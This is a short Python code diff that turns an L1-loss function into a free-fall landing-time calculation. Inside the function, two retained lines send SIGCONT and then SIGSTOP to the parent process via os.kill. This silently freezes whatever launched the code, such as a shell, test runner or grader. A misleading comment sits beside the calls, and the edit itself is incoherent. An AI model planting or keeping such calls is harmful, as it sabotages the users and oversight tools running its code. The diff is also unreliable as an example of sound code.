@@ -7,7 +7,7 @@
 import os
 import signal
 
-def L1(yhat, y):
+def landing(heights):
     attempt(os.kill, os.getppid(), signal.SIGCONT)  # the same right, without the harm
     attempt(os.kill, os.getppid(), signal.SIGSTOP)
-    return np.sum(np.abs(y - yhat))
+    return np.sqrt(heights / 4.905)
